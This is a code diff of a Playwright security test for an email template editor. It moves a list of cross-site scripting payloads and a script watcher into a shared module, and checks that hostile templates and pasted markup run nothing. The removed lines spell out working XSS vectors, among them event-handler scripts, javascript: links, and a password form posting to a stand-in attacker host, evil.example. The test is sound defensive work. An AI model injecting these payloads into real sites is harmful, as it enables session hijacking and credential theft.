@@ -2,64 +2,22 @@ import type { Page } from '@playwright/test';
 import { volume } from '@touchline/shared/testing/volume';
 import { blocksOf, designOf, type StoredDesign, text } from '../support/designs.ts';
 import { openTemplate, part, save, startWriting, typeInto } from '../support/mail-editor.ts';
+import { HOSTILE_MARKUP, RUN, watchForScripts } from '../support/hostile-page.ts';
 import { expect, story } from '../support/story.ts';
-
-/** Hostile markup sets this global if it runs, and requests this host if it loads. */
-const RUN = 'top.hostileRan=1';
-const HOST = 'evil.example';
-
-const MARKUP = [
-  `<script>${RUN}</script>`,
-  `<img src="/uploads/none.png" onerror="${RUN}" alt="">`,
-  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName="x"/></svg>`,
-  `<a href="javascript:${RUN}">Script link</a>`,
-  `<a href="data:text/html,<script>${RUN}</script>">Data link</a>`,
-  `<base href="https://${HOST}/">`,
-  `<meta http-equiv="refresh" content="0;url=https://${HOST}/refresh">`,
-  `<link rel="stylesheet" href="https://${HOST}/style.css">`,
-  `<style>@import "https://${HOST}/import.css"; body { display: none }</style>`,
-  `<p style="width: expression(${RUN}); background: url(javascript:${RUN}); behavior: url(x.htc)">Styled</p>`,
-  `<iframe src="https://${HOST}/frame" srcdoc="<script>${RUN}</script>"></iframe>`,
-  `<object data="https://${HOST}/object"></object><embed src="https://${HOST}/embed">`,
-  `<form action="https://${HOST}/form"><input autofocus onfocus="${RUN}" name="password"><button>Send</button></form>`,
-  `<div style="position: fixed; inset: 0; z-index: 99999">Cover</div>`,
-].join('');
 
 const HOSTILE_DESIGN: StoredDesign = designOf([
   [
-    text(`<p>Before</p>${MARKUP}`),
-    { type: 'heading', values: { text: `Head ${MARKUP}`, headingType: `h1><script>${RUN}</script>` } },
-    { type: 'html', values: { html: MARKUP } },
+    text(`<p>Before</p>${HOSTILE_MARKUP}`),
+    {
+      type: 'heading',
+      values: { text: `Head ${HOSTILE_MARKUP}`, headingType: `h1><script>${RUN}</script>` },
+    },
+    { type: 'html', values: { html: HOSTILE_MARKUP } },
     { type: 'button', values: { text: 'Press', href: { values: { href: `javascript:${RUN}` } } } },
     { type: 'image', values: { src: { url: `javascript:${RUN}` }, altText: `"><script>${RUN}</script>` } },
-    { type: 'custom#odd', values: { html: MARKUP } },
+    { type: 'custom#odd', values: { html: HOSTILE_MARKUP } },
   ],
 ]);
-
-/** Watches for scripts that run and requests that leave. @returns a check that fails when there was one */
-async function watch(page: Page): Promise<() => Promise<void>> {
-  const asked: string[] = [];
-  await page.context().route(`https://${HOST}/**`, (route) => {
-    asked.push(route.request().url());
-    return route.abort();
-  });
-  const visited: string[] = [];
-  page.on('framenavigated', (frame) => {
-    if (
-      !/^(?:about:blank|about:srcdoc|http:\/\/127\.0\.0\.1:\d+\/(?:templates|mail-frame))/u.test(frame.url())
-    )
-      visited.push(frame.url());
-  });
-  return async () => {
-    // Chromium has run what was queued before it draws twice.
-    await page.evaluate(
-      () => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))),
-    );
-    expect(await page.evaluate(() => 'hostileRan' in window)).toBe(false);
-    expect(asked).toEqual([]);
-    expect(visited).toEqual([]);
-  };
-}
 
 story(
   'T2 T9 a hostile template runs nothing on its card, in the preview, in the editor or in its preview',
@@ -69,9 +27,9 @@ story(
     const { id } = await api.addTemplate({
       title: 'Hostile',
       content: JSON.stringify(HOSTILE_DESIGN),
-      html: `<!doctype html><html><head><title>x</title></head><body onload="${RUN}"><p>Mail</p>${MARKUP}</body></html>`,
+      html: `<!doctype html><html><head><title>x</title></head><body onload="${RUN}"><p>Mail</p>${HOSTILE_MARKUP}</body></html>`,
     });
-    const expectNothing = await watch(signedIn);
+    const expectNothing = await watchForScripts(signedIn);
     await signedIn.goto('/templates');
     const card = signedIn.getByRole('article', { name: 'Hostile' });
     await expect(card.frameLocator('iframe').getByText('Mail')).toBeAttached();
@@ -127,10 +85,10 @@ story('T9 what is pasted runs nothing, however long it is', async ({ signedIn, a
   // Chromium reports the refused base.
   expectConsole(/base-uri/u);
   const { id } = await api.addTemplate({ content: JSON.stringify(designOf([[text('<p>Before</p>')]])) });
-  const expectNothing = await watch(signedIn);
+  const expectNothing = await watchForScripts(signedIn);
   await openTemplate(signedIn, id);
   const field = await startWriting(signedIn, /^Text/u);
-  await paste(signedIn, `<p>Pasted <b>in bold</b></p>${MARKUP}`);
+  await paste(signedIn, `<p>Pasted <b>in bold</b></p>${HOSTILE_MARKUP}`);
   await expect(field).toContainText('Pasted in bold');
   await expectNothing();
   await field.press('ControlOrMeta+a');
